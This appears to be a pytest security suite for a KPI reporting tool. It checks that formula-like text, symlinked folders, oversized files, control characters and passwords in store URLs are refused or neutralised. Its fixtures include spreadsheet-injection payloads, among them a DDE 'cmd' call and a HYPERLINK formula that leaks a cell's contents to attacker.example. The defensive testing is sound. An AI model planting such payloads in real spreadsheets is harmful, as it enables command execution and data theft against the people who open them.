"""The attack pass as a suite: formulas from text, files out of bounds or out of their domain,
linked folders, killed conversions, passwords in store URLs, the log, a full disk and control
characters on the terminal. Each case is something a hostile (or careless) user can do with the
files and names kpiflow takes in; each is refused plainly or made harmless, and changes nothing."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from ees import HEADER, LAC, cla_rows, write_cla, write_csv, write_neighbours
from publish_helpers import cli_env, edit_xml, region, rewrite
from publish_helpers import kpiflow as run_kpiflow
from typer.testing import CliRunner

from kpiflow.comparators import import_comparators
from kpiflow.demo import DemoResult
from kpiflow.model import Indicator
from kpiflow.periods import parse_period
from kpiflow.problems import Problem, ValidationResult
from kpiflow.settings import Settings, load_settings
from kpiflow.store import SQLiteStore, Store

Q2 = parse_period("2017/18 Q2")
HOSTILE = ["=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://attacker.example/?x="&A1,"Click")', "+1+1",
           "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=1+1.xlsx"]
LAC_ONLY = [("population_type", LAC)]
runner = CliRunner()


# -- formulas from text --------------------------------------------------------------------------

def formulas(xlsx: Path | bytes) -> list[str]:
    """The text of every formula element in every sheet of a workbook."""
    found = []
    with zipfile.ZipFile(xlsx if isinstance(xlsx, Path) else io.BytesIO(xlsx)) as zf:
        for name in zf.namelist():
            if name.endswith(".xml"):
                found += re.findall(r"<(?:\w+:)?f(?:\s[^>]*)?>(.*?)</(?:\w+:)?f>", zf.read(name).decode("utf-8"))
                found += re.findall(r"<(?:\w+:)?f(?:\s[^>]*)?/>", zf.read(name).decode("utf-8"))
    return found


def text_of(xlsx: Path | bytes) -> str:
    with zipfile.ZipFile(xlsx if isinstance(xlsx, Path) else io.BytesIO(xlsx)) as zf:
        return "".join(zf.read(n).decode("utf-8") for n in zf.namelist() if n.endswith(".xml"))


def hostile_indicator(i: int, text: str) -> Indicator:
    return Indicator(id=text, name=text, portfolio=text, service=text, better="High", unit="Number", rate_per=None,
                     frequency="Quarterly", measure="Snapshot", tolerance=None)


@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_in_an_issued_workbook_becomes_a_formula(tmp_path: Path, text: str) -> None:
    from kpiflow.workbook.build import BreakdownSeed, ReturnContext, write_return

    ctx = ReturnContext(hostile_indicator(1, text), None, history={"2016/17": text}, last_response=text)
    path = write_return(tmp_path / "issued.xlsx", text, Q2, [ctx], ["2016/17"], [BreakdownSeed(text, text)])
    assert formulas(path) == []
    import openpyxl

    wb = openpyxl.load_workbook(path)
    title = wb["Return"]["A1"]
    assert title.data_type == "s" and text.strip() in title.value
    hidden = wb["kpiflow"]
    ids = [str(hidden.cell(row=r, column=3).value) for r in range(2, hidden.max_row + 1)]
    assert any(text.strip() in v for v in ids)


@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_in_a_feedback_copy_becomes_a_formula(filled: Path, text: str) -> None:
    from kpiflow.workbook.annotate import annotated

    result = ValidationResult(text)          # the received file's name, e.g. "=1+1.xlsx"
    result.add(Problem("error", "not-a-number", text, sheet="Return", cell="F7", indicator_id=text))
    result.add(Problem("warning", "long-text", text, sheet=text, cell=text))
    data = annotated(filled, result)
    assert formulas(data) == []
    import openpyxl

    wb = openpyxl.load_workbook(io.BytesIO(data))
    assert wb["Problems"]["A1"].data_type == "s"
    assert wb["Return"]["F7"].comment is not None


@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_in_an_xlsx_export_or_a_chart_workbook_becomes_a_formula(tmp_path: Path, text: str) -> None:
    from kpiflow.docx.charts import ChartSpec, _workbook_blob
    from kpiflow.workbook.build import write_table

    path = write_table(tmp_path / "t.xlsx", "History", [text, "value"], [[text, 1.0], [text, text]])
    assert formulas(path) == []
    blob = _workbook_blob(ChartSpec(text, (text, "2017/18"), ((text, (1.0, 2.0)),)))
    assert formulas(blob) == []


def test_a_dropped_file_named_like_a_formula_stays_text_in_its_feedback(settings: Settings, store: Store,
                                                                        filled: Path, edit: object) -> None:
    from kpiflow.pipeline import ingest_returns

    store.close()
    bad = edit(filled, {"Return!F7": "lots"})  # type: ignore[operator]
    shutil.copy(bad, settings.inbox / "=1+1.xlsx")
    done = ingest_returns(settings, None, None)
    assert not done.ok
    feedback = [p for p in settings.feedback_dir.iterdir() if p.suffix == ".xlsx"]
    assert feedback
    for path in feedback:
        assert formulas(path) == []
        assert "=1+1" in text_of(path)


def test_a_catalogue_service_named_like_a_formula_stays_text_when_issued(settings: Settings, store: Store,
                                                                         catalogue: object) -> None:
    from dataclasses import replace

    from kpiflow.demo import SERVICE
    from kpiflow.issue import issue_returns

    evil = "=cmd|' /C calc'!A0"
    cat = replace(catalogue, indicators=tuple(replace(i, service=evil) if i.service == SERVICE else i  # type: ignore[arg-type]
                                              for i in catalogue.indicators))  # type: ignore[attr-defined]
    issued = issue_returns(settings, store, cat, Q2, evil)  # type: ignore[arg-type]
    assert issued
    for path in issued:
        assert formulas(path) == []
        assert "cmd|" in text_of(path)


def test_the_csv_export_neutralises_formula_like_cells(settings: Settings, store: Store, tmp_path: Path) -> None:
    from kpiflow.frames import csv_safe, export_history
    from kpiflow.model import Figures

    for i, text in enumerate(HOSTILE):
        store.load_history([("CS01", parse_period("2010/11"), Figures(number=1000.0 + i))], text)
    store.close()
    out = tmp_path / "history.csv"
    export_history(settings, "csv", out)
    with out.open(encoding="utf-8-sig", newline="") as fh:
        sources = [row["source"] for row in csv.DictReader(fh)]
    for text in HOSTILE:
        assert "'" + text in sources, text
    assert not [s for s in sources if s[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert [csv_safe(v) for v in ("-5", "+3.5", "1e3", "-", "-x", "@")] == ["-5", "+3.5", "1e3", "'-", "'-x", "'@"]
    readme = (Path(__file__).resolve().parent.parent / "README.md").read_text(encoding="utf-8")
    assert "OWASP" in readme


# -- comparator files: bounds and domains ---------------------------------------------------------

@pytest.fixture
def council(home: Path, store: Store) -> Settings:
    store.close()
    toml = home / "kpiflow.toml"
    toml.write_text(toml.read_text(encoding="utf-8").replace('# la_code = ""', 'la_code = "890"'), encoding="utf-8")
    return load_settings(home)


def comparators(settings: Settings, file: Path, neighbours: Path | None = None, column: str = "rate_per_10000"):  # type: ignore[no-untyped-def]
    return import_comparators(settings, file, "CS01", column, LAC_ONLY, neighbours)


def stored_observations(settings: Settings) -> int:
    with SQLiteStore(settings.db_path) as s:
        return int(s.conn.execute("SELECT COUNT(*) FROM observations").fetchone()[0])


def test_a_file_over_256_mb_is_refused_before_it_is_read(council: Settings, tmp_path: Path) -> None:
    from kpiflow.comparators import MAX_FILE_BYTES

    big = tmp_path / "big.csv"
    with big.open("wb") as fh:          # 8 KB of real CSV, then a sparse tail of nearly 2 GB
        fh.write(",".join(HEADER).encode() + b"\n" + b"x," * 4000)
        fh.truncate(2 * 1024 * 1024 * 1024 - 1)
    before = stored_observations(council)
    started = time.monotonic()
    done = comparators(council, big)
    assert time.monotonic() - started < 2
    assert not done.ok and [p.code for p in done.result.errors] == ["oversized-file"]
    assert f"{MAX_FILE_BYTES // 1024 // 1024} MB" in done.result.errors[0].message
    assert stored_observations(council) == before
    r = run_kpiflow(council.home, "comparators", "import", str(big), "--indicator", "CS01", "--column",
                    "rate_per_10000")
    assert r.returncode == 1 and "Traceback" not in r.stderr, r.stdout + r.stderr


def test_a_large_file_is_read_within_bounded_memory(council: Settings, tmp_path: Path) -> None:
    path = tmp_path / "long.csv"
    rows = cla_rows()
    with path.open("w", encoding="utf-8", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=HEADER)
        w.writeheader()
        w.writerows(rows)
        other = {**rows[0], "population_type": "Another measure", "geographic_level": "Local authority"}
        for i in range(1_000_000):
            other["old_la_code"] = str(100 + i % 900)
            other["number"] = str(i)
            w.writerow(other)
    assert path.stat().st_size > 80 * 1024 * 1024, path.stat().st_size
    script = ("import resource, sys\nfrom pathlib import Path\nfrom kpiflow.comparators import import_comparators\n"
              "from kpiflow.settings import load_settings\n"
              f"done = import_comparators(load_settings({str(council.home)!r}), Path({str(path)!r}), 'CS01', "
              f"'rate_per_10000', [('population_type', {LAC!r})])\n"
              "print(done.ok, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024)\n")
    r = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=300)
    assert r.returncode == 0, r.stderr
    ok, peak_mb = r.stdout.split()
    assert ok == "True"
    assert int(peak_mb) < 300, f"peak {peak_mb} MB"


def test_too_many_rows_for_the_measure_are_refused_plainly(council: Settings, tmp_path: Path,
                                                           monkeypatch: pytest.MonkeyPatch) -> None:
    from kpiflow import comparators as mod

    monkeypatch.setattr(mod, "MAX_ROWS", 60)       # the file has 70 rows of the measure
    path = write_csv(tmp_path / "many.csv", HEADER, cla_rows())
    done = comparators(council, path)
    assert not done.ok and [p.code for p in done.result.errors] == ["too-many-csv-rows"]


@pytest.mark.parametrize(("value", "code"), [("-60", "negative-value"), ("1e400", "impossible-figure"),
                                             ("99999999999999999999999", "impossible-figure"),
                                             ("inf", "not-a-number"), ("20000", "above-base")])
def test_a_figure_outside_its_domain_is_refused_at_its_cell(council: Settings, tmp_path: Path, value: str,
                                                           code: str) -> None:
    rows = cla_rows()
    at = next(i for i, r in enumerate(rows) if r["geographic_level"] == "National" and r["population_type"] == LAC)
    rows[at]["rate_per_10000"] = value
    path = write_csv(tmp_path / "cla.csv", HEADER, rows)
    before = stored_observations(council)
    done = comparators(council, path)
    assert not done.ok
    letter = "ABCDEFGHIJKLMNOPQRSTUVWXYZ"[HEADER.index("rate_per_10000")]
    assert (code, f"{letter}{at + 2}") in [(p.code, p.cell) for p in done.result.errors], done.lines()
    assert stored_observations(council) == before


def test_a_percentage_over_100_is_refused() -> None:
    import pandas as pd

    from kpiflow.comparators import _Figure, _out_of_domain, _Table

    pct = Indicator(id="ED01", name="Pupils at good schools", portfolio="", service="", better="High",
                    unit="Percentage", rate_per=None, frequency="Annual", measure="Snapshot", tolerance=None)
    t = _Table("pct.csv", pd.DataFrame(columns=["la_name", "percent"]))
    result = ValidationResult("pct.csv")
    assert _out_of_domain(t, "percent", pct, _Figure("number", 101.0, "101", 3), "England", "2017/18", result)
    assert not _out_of_domain(t, "percent", pct, _Figure("number", 100.0, "100", 4), "England", "2017/18", result)
    assert [(p.code, p.cell) for p in result.errors] == [("out-of-range", "B5")]


def test_a_duplicate_measure_column_is_refused(council: Settings, tmp_path: Path) -> None:
    path = tmp_path / "dup.csv"
    header = [*HEADER, "rate_per_10000"]
    rows = cla_rows()
    with path.open("w", encoding="utf-8-sig", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(header)
        for r in rows:
            w.writerow([*(r.get(h, "") for h in HEADER), "1"])
    done = comparators(council, path)
    assert [(p.code, p.cell) for p in done.result.errors] == [("duplicate-column", f"{_letter(len(HEADER))}1")]


def _letter(i: int) -> str:
    from kpiflow.comparators import column_letter

    return column_letter(i)


def test_an_unknown_numeric_neighbour_code_is_an_error(council: Settings, tmp_path: Path) -> None:
    cla = write_cla(tmp_path / "cla_la.csv")
    sn = write_neighbours(tmp_path / "SN.csv", overrides={3: "999"})
    before = stored_observations(council)
    done = comparators(council, cla, sn)
    assert not done.ok
    assert "unknown-neighbour" in [p.code for p in done.result.errors]
    assert stored_observations(council) == before


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le"])
def test_a_utf16_file_is_read(council: Settings, tmp_path: Path, encoding: str) -> None:
    utf8 = write_cla(tmp_path / "cla_la.csv")
    path = tmp_path / f"{encoding}.csv"
    path.write_bytes(utf8.read_text(encoding="utf-8-sig").encode(encoding))
    done = comparators(council, path)
    assert done.ok, done.lines()
    assert done.years


def test_a_header_only_or_empty_file_says_it_has_no_rows(council: Settings, tmp_path: Path) -> None:
    header_only = write_csv(tmp_path / "header.csv", HEADER, [])
    done = comparators(council, header_only)
    assert [p.code for p in done.result.errors] == ["no-rows"]
    assert "no rows" in done.result.errors[0].message
    empty = tmp_path / "empty.csv"
    empty.write_bytes(b"")
    done = comparators(council, empty)
    assert [p.code for p in done.result.errors] == ["no-rows"]


def test_one_endless_line_is_refused_without_holding_it(council: Settings, tmp_path: Path) -> None:
    path = tmp_path / "line.csv"
    with path.open("wb") as fh:
        fh.write(",".join(HEADER).encode() + b"\n")
        fh.write(b"a" * (40 * 1024 * 1024))
    done = comparators(council, path)
    assert [p.code for p in done.result.errors] == ["not-csv"]


# -- drafts: bounds --------------------------------------------------------------------------------

def _long_commentary(draft: Path, dest: Path, chars: int) -> Path:
    import secrets

    from publish_helpers import W, para

    def fill(root: object) -> None:       # words that do not compress to nothing
        content = region(root, "CS01", "commentary").find(f"{W}sdtContent")
        content.append(para(" ".join(secrets.token_hex(4) for _ in range(chars // 9))))

    return rewrite(draft, dest, {"word/document.xml": edit_xml(fill)})


def test_keep_edits_refuses_a_region_longer_than_a_report_holds(fresh: DemoResult) -> None:
    from kpiflow.keep_edits import kept_edits

    draft = _long_commentary(fresh.report, fresh.home / "long.docx", 2_000_000)
    out = kept_edits(draft, Q2)
    assert [p.code for p in out.checks.errors] == ["region-too-long"]
    assert out.checks.errors[0].indicator_id == "CS01"
    assert not out.texts


def test_a_commentary_of_many_megabytes_is_refused_before_it_is_parsed(fresh: DemoResult) -> None:
    import secrets

    from publish_helpers import W, para

    from kpiflow.keep_edits import kept_edits

    def fill(root: object) -> None:       # a paragraph per line pasted in: over 10 MB of XML
        content = region(root, "CS01", "commentary").find(f"{W}sdtContent")
        for _ in range(250_000):
            content.append(para(secrets.token_hex(4)))

    draft = rewrite(fresh.report, fresh.home / "huge.docx", {"word/document.xml": edit_xml(fill)})
    started = time.monotonic()
    out = kept_edits(draft, Q2)
    assert time.monotonic() - started < 5
    assert [p.code for p in out.checks.errors] == ["oversized-part"]
    assert "word/document.xml" in out.checks.errors[0].message


def test_publish_refuses_a_region_longer_than_a_report_holds(fresh: DemoResult) -> None:
    from test_publish_hostile import refused

    draft = _long_commentary(fresh.report, fresh.home / "long.docx", 60_000)
    refused(fresh, draft, "region-too-long")


@pytest.mark.parametrize(("count", "code"), [(200_000, "oversized-part"), (20_000, "too-many-properties")])
def test_a_draft_with_200000_custom_properties_is_refused_quickly(fresh: DemoResult, count: int, code: str) -> None:
    import secrets

    from test_publish_hostile import refused

    from kpiflow.docx.props import CP, FMTID, VT

    def many(data: bytes) -> bytes:
        extra = "".join(f'<property fmtid="{FMTID}" pid="{i + 100}" name="p{i}"><vt:lpwstr>{secrets.token_hex(8)}'
                        "</vt:lpwstr></property>" for i in range(count))
        return data.replace(b"</Properties>", extra.encode() + b"</Properties>")

    draft = rewrite(fresh.report, fresh.home / "props.docx", {"docProps/custom.xml": many})
    with zipfile.ZipFile(draft) as zf:
        assert zf.read("docProps/custom.xml").count(b"<property") > count
        assert CP.encode() in zf.read("docProps/custom.xml") and VT.encode() in zf.read("docProps/custom.xml")
    started = time.monotonic()
    refused(fresh, draft, code)
    assert time.monotonic() - started < 60


# -- folders ---------------------------------------------------------------------------------------

@pytest.mark.parametrize("place", ["outbox/feedback", "inbox/processed", "inbox/rejected", "outbox/drafts",
                                   "outbox/published", "outbox/returns", "outbox/exports"])
def test_a_folder_replaced_by_a_link_is_refused_before_anything_is_done(home: Path, filled: Path, tmp_path: Path,
                                                                      place: str) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    folder = home / place
    if folder.exists():
        shutil.rmtree(folder)
    folder.parent.mkdir(parents=True, exist_ok=True)
    folder.symlink_to(outside, target_is_directory=True)
    dropped = home / "inbox" / filled.name
    shutil.copy(filled, dropped)
    for args in (("ingest",), ("issue", "--quarter", "2017/18 Q2"), ("export",), ("status", "--quarter", "2017/18 Q2")):
        r = run_kpiflow(home, *args)
        assert r.returncode == 2, (args, r.stdout, r.stderr)
        assert place in r.stderr and "link" in r.stderr and "Traceback" not in r.stderr
    assert list(outside.iterdir()) == []
    assert dropped.exists()


def test_export_out_refuses_a_link_and_says_what_to_fix_for_an_unwritable_folder(home: Path, store: Store,
                                                                                 tmp_path: Path) -> None:
    store.close()
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me", encoding="utf-8")
    link = tmp_path / "history.csv"
    link.symlink_to(victim)
    r = run_kpiflow(home, "export", "--out", str(link))
    assert r.returncode == 2 and "link" in r.stderr, r.stderr
    assert victim.read_text(encoding="utf-8") == "keep me" and link.is_symlink()

    with read_only_folder(tmp_path / "ro") as ro:
        r = run_kpiflow(home, "export", "--out", str(ro / "history.csv"))
    assert r.returncode == 2, r.stderr
    assert "unexpectedly" not in r.stderr and "may not write" in r.stderr, r.stderr


@contextlib.contextmanager
def read_only_folder(path: Path) -> Iterator[Path]:
    path.mkdir()
    if os.geteuid() != 0:
        path.chmod(0o555)
        try:
            yield path
        finally:
            path.chmod(0o755)
        return
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "ro,size=1m", "tmpfs", str(path)],
                      capture_output=True).returncode != 0:
        pytest.skip("running as root and cannot mount a read-only folder here")
    try:
        yield path
    finally:
        subprocess.run(["umount", str(path)], check=False)


# -- LibreOffice stopped with kpiflow ---------------------------------------------------------------

def _soffice_with(marker: str) -> list[tuple[int, str]]:
    """(pid, profile) of running processes whose command line holds ``marker``."""
    out = []
    for entry in os.scandir("/proc"):
        if not entry.name.isdigit():
            continue
        try:
            args = Path(f"/proc/{entry.name}/cmdline").read_bytes().decode("utf-8", "replace").split("\0")
        except OSError:
            continue
        if marker in args and any(a.startswith("-env:UserInstallation=") for a in args):
            profile = next(a for a in args if a.startswith("-env:UserInstallation=")).split("file://", 1)[1]
            out.append((int(entry.name), profile))
    return out


@pytest.mark.skipif(shutil.which("soffice") is None or not sys.platform.startswith("linux"),
                    reason="needs LibreOffice (apt-get install libreoffice-writer-nogui) on Linux")
@pytest.mark.parametrize("sig", [signal.SIGKILL, signal.SIGTERM])
def test_a_killed_conversion_leaves_no_libreoffice_and_no_profile(fresh: DemoResult, tmp_path: Path,
                                                                  sig: int) -> None:
    outdir = tmp_path / "pdf-out"
    script = (f"from pathlib import Path\nfrom kpiflow.pdf import convert\n"
              f"convert(Path({str(fresh.report)!r}), Path({str(outdir)!r}))\n")
    proc = subprocess.Popen([sys.executable, "-c", script], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 60
    running: list[tuple[int, str]] = []
    while time.monotonic() < deadline and not running:
        running = _soffice_with(str(outdir))
        time.sleep(0.05)
    assert running, "LibreOffice never started"
    profile = running[0][1]
    proc.send_signal(sig)
    proc.wait(timeout=30)
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline and (_soffice_with(str(outdir)) or os.path.exists(profile)):
        time.sleep(0.1)
    assert _soffice_with(str(outdir)) == []
    assert not os.path.exists(profile)


def test_stale_profiles_of_dead_kpiflow_processes_are_cleaned_at_the_next_run(tmp_path: Path) -> None:
    from kpiflow.pdf import PROFILE_PREFIX, clean_stale_profiles

    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    profile = Path(tempfile.mkdtemp(prefix=f"{PROFILE_PREFIX}{dead.pid}-"))
    (profile / "user").mkdir()
    straggler = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)",
                                  f"-env:UserInstallation=file://{profile}"])
    mine = Path(tempfile.mkdtemp(prefix=f"{PROFILE_PREFIX}{os.getpid()}-"))
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline and f"file://{profile}".encode() not in Path(
            f"/proc/{straggler.pid}/cmdline").read_bytes():
        time.sleep(0.02)
    try:
        removed = clean_stale_profiles()
        assert str(profile) in removed
        assert not profile.exists()
        assert straggler.wait(timeout=10) != 0
        assert mine.exists()            # a live process's profile is left alone
    finally:
        straggler.kill()
        shutil.rmtree(mine, ignore_errors=True)
        shutil.rmtree(profile, ignore_errors=True)


# -- secrets, the log, the disk, the terminal -------------------------------------------------------

@pytest.mark.parametrize("url", ["postgresql://kpiflow:p@ss/w0rd@dbhost/kpiflow",
                                 "postgresql://kpiflow:pa/ss@w0rd.dbhost/kpiflow",
                                 "postgresql://kpiflow:pa?ss=w0rd@dbhost/kpiflow",
                                 "postgresql://kpiflow:pa#ssw0rd@dbhost/kpiflow",
                                 "postgres://kpiflow:p@ss:w0rd@dbhost:5432/kpiflow"])
def test_a_store_url_that_cannot_be_read_one_way_is_refused_unshown(home: Path, url: str) -> None:
    from kpiflow.settings import redact_url

    r = run_kpiflow(home, "status", "--quarter", "2017/18 Q2", env=cli_env(KPIFLOW_DATABASE_URL=url))
    assert r.returncode == 2
    shown = r.stdout + r.stderr
    for secret in ("w0rd", "p@ss", "pa/ss", "pa?ss", "pa#ss", "dbhost"):
        assert secret not in shown, shown
    assert "%40" in shown
    assert "w0rd" not in redact_url(url) and "dbhost" not in redact_url(url)


def test_the_watch_log_is_plain_utf8(settings: Settings, catalogue: object) -> None:
    from kpiflow.watch import Watcher

    shown: list[str] = []
    w = Watcher(settings, catalogue, log=shown.append)  # type: ignore[arg-type]
    w._log_failure("\0store", "the store's server cannot be reached")
    w.log("bad\udcffname\x1b[31m.xlsx\x00: rejected\r\nforged line")
    data = (settings.outbox / "kpiflow.log").read_bytes()
    assert b"\0" not in data and b"\x1b" not in data
    text = data.decode("utf-8")
    assert len(text.splitlines()) == 2
    assert "store: the store's server cannot be reached" in text


@pytest.fixture
def small_disk(tmp_path: Path) -> Iterator[Path]:
    """A 6 MB file system of its own (tmpfs), so that it can be filled."""
    disk = tmp_path / "disk"
    disk.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=6m", "tmpfs", str(disk)],
                      capture_output=True).returncode != 0:
        pytest.skip("cannot mount a small file system here (needs root)")
    try:
        yield disk
    finally:
        subprocess.run(["umount", "-l", str(disk)], check=False)


def _fill(disk: Path) -> None:
    for size in (65536, 512, 1):
        with contextlib.suppress(OSError), (disk / f"filler{size}").open("wb") as fh:
            while True:
                fh.write(b"\0" * size)
                fh.flush()


def test_a_full_disk_is_said_to_be_full(small_disk: Path) -> None:
    from kpiflow.init import init_home

    fresh_home = small_disk / "new"
    init_home(fresh_home, council="Blackpool Council")
    used = small_disk / "used"
    init_home(used, council="Blackpool Council")
    run_kpiflow(used, "status", "--quarter", "2017/18 Q2")       # its store made while there was room
    _fill(small_disk)
    for home, args in ((fresh_home, ("status", "--quarter", "2017/18 Q2")),
                       (used, ("issue", "--quarter", "2017/18 Q2"))):
        r = run_kpiflow(home, *args)
        assert r.returncode == 2, (args, r.stdout, r.stderr)
        assert "disk is full" in r.stderr, r.stderr
        assert "unexpectedly" not in r.stderr and "damaged" not in r.stderr and "Traceback" not in r.stderr


def test_control_characters_never_reach_the_terminal(council: Settings, tmp_path: Path) -> None:
    from kpiflow.cli import app, printable

    evil = "\x1b]0;owned\x07\x1b[2J\x1b[31mTorbay\x9b31m\u202e"
    rows = cla_rows()
    for r in rows:
        if r.get("old_la_code") == "890":
            r["la_name"] = evil
    cla = write_csv(tmp_path / "cla_la.csv", HEADER, rows)
    r = run_kpiflow(council.home, "comparators", "import", str(cla), "--indicator", "CS01", "--column",
                    "rate_per_10000", "--where", f"population_type={LAC}")
    assert "Torbay" in r.stdout, r.stdout + r.stderr
    for shown in (r.stdout, r.stderr):
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", shown), repr(shown)
    assert printable(evil) == "Torbay"
    assert printable("line one\nline\ttwo") == "line one\nline\ttwo"
    result = runner.invoke(app, ["comparators", "import", str(cla), "--indicator", "CS01", "--column",
                                 "rate_per_10000", "--where", f"population_type={LAC}", "--home", str(council.home)])
    assert "\x1b" not in result.output


# -- one publish at a time across hosts -------------------------------------------------------------

def test_with_postgresql_the_publish_lock_is_taken_in_the_database(tmp_path: Path, request: pytest.FixtureRequest
                                                                   ) -> None:
    from kpiflow.errors import KpiflowError
    from kpiflow.init import init_home
    from kpiflow.publish import publishing_lock
    from kpiflow.store import open_store

    server = request.getfixturevalue("pg_server")
    db = f"kpiflow_attack_{os.getpid()}"
    url = server.create_database(db)
    request.addfinalizer(lambda: server.drop_database(db))
    homes = []
    for name in ("host-a", "host-b"):       # two hosts' views of one share, each with its own file locks
        h = tmp_path / name
        init_home(h, council="Blackpool Council")
        with (h / "kpiflow.toml").open("a", encoding="utf-8") as fh:
            fh.write(f'\n[store]\nurl = "{url}"\n')
        homes.append(load_settings(h))
    with (open_store(homes[0]) as a, open_store(homes[1]) as b, publishing_lock(homes[0], a),
          pytest.raises(KpiflowError, match="Another kpiflow publish"), publishing_lock(homes[1], b)):
        pass
    with open_store(homes[1]) as b, publishing_lock(homes[1], b):
        pass      # released when the first finished


def test_every_new_code_is_in_the_registry_and_the_docs() -> None:
    from kpiflow.problems import CODES

    docs = (Path(__file__).resolve().parent.parent / "docs" / "problems.md").read_text(encoding="utf-8")
    for code in ("oversized-file", "no-rows", "duplicate-column", "too-many-csv-rows", "impossible-figure",
                 "above-base", "region-too-long", "too-many-properties"):
        assert code in CODES and f"`{code}`" in docs
    assert json.dumps(sorted(CODES))
